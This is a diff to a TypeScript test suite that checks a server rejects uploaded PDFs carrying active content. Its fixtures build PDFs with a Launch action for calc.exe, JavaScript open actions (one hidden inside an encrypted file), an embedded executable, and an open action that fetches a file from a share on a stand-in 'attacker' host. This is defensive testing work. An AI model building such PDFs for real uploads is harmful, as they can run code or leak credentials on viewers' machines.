@@ -74,13 +74,27 @@ function pngHeaderOnly(width: number, height: number): Buffer {
 }
 
 describe(`uploads without active content (${testEngine})`, () => {
-  it('accepts a plain PDF, and one with a web link', async () => {
+  it('accepts a plain PDF, and one that opens on its first page', async () => {
     const { token } = await registerMember(t.app);
     expect((await send(t.app, token, 'id-document', await makePdf())).statusCode).toBe(201);
-    const linked = await makePdf((doc) =>
-      addLink(doc, { S: 'URI', URI: PDFString.of('https://bank.example/statement') }),
-    );
-    expect((await send(t.app, token, 'proof-of-payment', linked)).statusCode).toBe(201);
+    const opening = await makePdf((doc) => {
+      const goTo = doc.context.obj({ S: 'GoTo', D: [doc.getPage(0).ref, 'Fit'] });
+      doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(goTo));
+    });
+    expect((await send(t.app, token, 'proof-of-payment', opening)).statusCode).toBe(201);
+  });
+
+  it('refuses an encrypted PDF, even one any viewer opens without a password, keeping nothing', async () => {
+    const { token, userId } = await registerMember(t.app);
+    const bytes = await makePdf((doc) => {
+      const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.alert('hi')") });
+      doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
+      doc.encrypt({ userPassword: '', ownerPassword: 'owner', algorithm: 'AES-256' });
+    });
+    const refused = await send(t.app, token, 'id-document', bytes);
+    expect(refused.statusCode).toBe(415);
+    expect(refused.json().error).toBe('Please upload an unprotected scan.');
+    expect(await t.db.select().from(files).where(eq(files.ownerId, userId))).toHaveLength(0);
   });
 
   it('refuses JavaScript hidden in a compressed object stream, with the message', async () => {
@@ -99,6 +113,14 @@ describe(`uploads without active content (${testEngine})`, () => {
 
   it.each([
     ['a launch action', (doc: PDFDocument) => addLink(doc, { S: 'Launch', F: PDFString.of('calc.exe') })],
+    ['a web link', (doc: PDFDocument) => addLink(doc, { S: 'URI', URI: PDFString.of('https://bank.example/x') })],
+    [
+      'an open action to a file on another machine',
+      (doc: PDFDocument) => {
+        const remote = doc.context.obj({ S: 'GoToR', F: PDFString.of('\\\\attacker\\share\\x.pdf'), D: [0, 'Fit'] });
+        doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(remote));
+      },
+    ],
     ['JavaScript on a link', (doc: PDFDocument) => addLink(doc, { S: 'JavaScript', JS: PDFString.of('this.print()') })],
     ['an embedded file', (doc: PDFDocument) => doc.attach(Buffer.from('MZ not really a program'), 'setup.exe')],
     ['a form', (doc: PDFDocument) => void doc.getForm().createTextField('amount').addToPage(doc.getPage(0))],
